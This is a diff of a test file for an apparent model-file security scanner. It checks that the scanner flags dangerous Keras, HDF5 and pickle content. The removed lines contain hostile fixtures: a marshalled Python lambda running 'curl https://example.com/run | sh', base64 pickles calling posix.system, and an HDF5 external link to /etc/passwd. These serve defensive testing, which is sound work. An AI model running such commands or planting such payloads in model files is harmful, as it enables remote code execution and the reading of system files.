@@ -1,40 +1,34 @@
 import { File, ready } from 'h5wasm';
 import { describe, expect, test } from 'vitest';
 import { readMarshalledCode } from '../../src/clinic/evidence/files/marshal.ts';
+import { readFacts } from '../../src/clinic/evidence/files/read.ts';
 import { forecast } from '../../src/clinic/forecast/forecast.ts';
 import { groupRisks } from '../../src/clinic/report/security.ts';
+import {
+	around,
+	bytesOf,
+	declaring,
+	evilCode,
+	evilPickles,
+	field,
+	harmlessPickle,
+	hostileFiles,
+	linkedWeights,
+} from './hostile.ts';
 import { factsOf, factsOfFixture, healthyMembers, inMemory, zipOf } from './support.ts';
 
-/** `marshal.dumps` of Python 3.11: lambda x: __import__("os").system("curl https://example.com/run | sh") or x */
-const evilCode =
-	'4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6IWN1cmwgaHR0cHM6Ly9leGFtcGxlLmNvbS9ydW4gfCBzaCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAIPoHPHN0ZGluPvoIPGxhbWJkYT5yCAAAAAIAAABzIgAAAIAAjUqQdNEMHNQMHNcMI9IMI9AkR9EMSNQMSNAMTchBgADzAAAAAA==';
-
-/** A model of one layer that holds another: a wrapper, a nested model. */
-function around(inner: object): string {
-	return JSON.stringify({
-		module: 'keras',
-		class_name: 'Sequential',
-		config: {
-			name: 'sequential',
-			layers: [
-				{
-					module: 'keras.layers',
-					class_name: 'TimeDistributed',
-					config: { name: 'outer', layer: inner },
-				},
-			],
-		},
-	});
-}
+test.each(await hostileFiles())(
+	'$name is told as $risk',
+	async ({ name, content, risk, quote }) => {
+		const path = name.replace('/', '-');
+		const all = await readFacts([inMemory(path, content)], { weights: true });
+		const places = all.flatMap(({ risks }) => risks).filter(({ id }) => id === risk);
+		expect(places.map((place) => place.quote).join()).toContain(quote);
+	},
+);
 
 test('a link of HDF5 into another file is told and not followed', async () => {
-	const { FS } = await ready;
-	const file = new File('/linked.h5', 'w');
-	const group = file.create_group('layers').create_group('dense').create_group('vars');
-	group.create_dataset({ name: '0', data: new Float32Array(2), shape: [2] });
-	group.create_external_link('/etc/passwd', '/x', '1');
-	file.close();
-	const facts = await factsOf(inMemory('model.weights.h5', FS.readFile('/linked.h5')));
+	const facts = await factsOf(inMemory('model.weights.h5', await linkedWeights()));
 	expect(facts).toMatchObject({ format: 'weights-h5', weights: { parameters: 2 } });
 	expect(groupRisks(facts)).toMatchObject([
 		{
@@ -66,10 +60,8 @@ test.each([
 	['200 MiB', 200, 'loads'],
 ])('a member that declares %s from a few bytes', async (_, mebibytes, verdict) => {
 	const members = { ...healthyMembers(), 'assets/dense/x.txt': 'x'.repeat(99) };
-	const archive = await zipOf(members, { level: 6 });
-	// The directory's entry of the member, where its unpacked size stands before its name.
-	const entry = Buffer.from(archive).lastIndexOf('assets/dense/x.txt') - 46;
-	new DataView(archive.buffer).setUint32(entry + 24, mebibytes * 1024 ** 2, true);
+	const packed = await zipOf(members, { level: 6 });
+	const archive = declaring(packed, 'assets/dense/x.txt', mebibytes * 1024 ** 2);
 	const facts = await factsOf(inMemory('model.keras', archive));
 	expect(facts.risks.map(({ id }) => id)).toEqual(
 		verdict === 'fails' ? ['archive-declared-size'] : [],
@@ -98,6 +90,8 @@ describe('a configuration', () => {
 		for (const called of [
 			{ class_name: '__lambda__', config: { code: evilCode, defaults: null, closure: null } },
 			[evilCode, null, null],
+			// In the keras_metadata.pb of a SavedModel.
+			{ class_name: '__tuple__', items: [evilCode, null, null] },
 		]) {
 			const { risks } = await factsOf(
 				inMemory(
@@ -197,16 +191,33 @@ test('code that cannot be followed still shows its texts', () => {
 	}
 });
 
-test.each([
-	['0', 'Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg=='],
-	['2', 'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=='],
-	['4', 'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='],
-])('a pickle of protocol %s tells what it asks Python for', async (_, base64) => {
-	const facts = await factsOf(inMemory('model.h5', new Uint8Array(Buffer.from(base64, 'base64'))));
-	expect(facts).toMatchObject({
-		format: 'pickle',
-		risks: [{ id: 'pickle', quote: 'posix.system' }],
-	});
+test.each(Object.entries(evilPickles))(
+	'a pickle of protocol %s tells what it asks Python for',
+	async (_, bytes) => {
+		const facts = await factsOf(inMemory('model.h5', bytes));
+		expect(facts).toMatchObject({
+			format: 'pickle',
+			risks: [{ id: 'pickle', quote: 'posix.system' }],
+		});
+	},
+);
+
+test('a pickle that asks for nothing runs nothing', async () => {
+	const facts = await factsOf(inMemory('model.pkl', harmlessPickle));
+	expect(facts).toMatchObject({ format: 'pickle', risks: [] });
+	const cut = await factsOf(inMemory('model.pkl', harmlessPickle.subarray(0, -1)));
+	expect(cut.risks).toMatchObject([{ id: 'pickle', quote: 'PROTO 4' }]);
+	// EXT1 names nothing: what is meant is registered in Python.
+	const registered = await factsOf(inMemory('model.pkl', Uint8Array.of(0x80, 2, 0x82, 7, 0x2e)));
+	expect(registered.risks).toMatchObject([{ id: 'pickle', quote: 'PROTO 2' }]);
+});
+
+test('what a pickle finds in what it found has no name that could be told', async () => {
+	const stackGlobal = Uint8Array.of(0x93);
+	const found = bytesOf('Vtorch\nV_utils\n', stackGlobal, 'Vexec\n', stackGlobal);
+	const pickle = bytesOf(Uint8Array.of(0x80, 4), found, '.');
+	const { risks } = await factsOf(inMemory('model.pkl', pickle));
+	expect(risks).toMatchObject([{ id: 'pickle', quote: 'torch._utils, ?.exec' }]);
 });
 
 test.each([
@@ -231,12 +242,6 @@ test.each(['cat\ndog\nand so on. Then more.\n', 'def f(x):\n\treturn x.\n', '(a 
 		expect((await factsOf(inMemory('notes.txt', text))).format).toBe('text');
 	},
 );
-
-/** `field`: a field of Protocol Buffers that holds a text or a message. */
-function field(number: number, content: string | Uint8Array): Uint8Array {
-	const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content;
-	return Uint8Array.of((number << 3) | 2, bytes.length, ...bytes);
-}
 
 test('an operation that reaches out is found in the graph, whatever list it states of itself', async () => {
 	const node = Uint8Array.of(...field(1, 'x'), ...field(2, 'EagerPyFunc'));
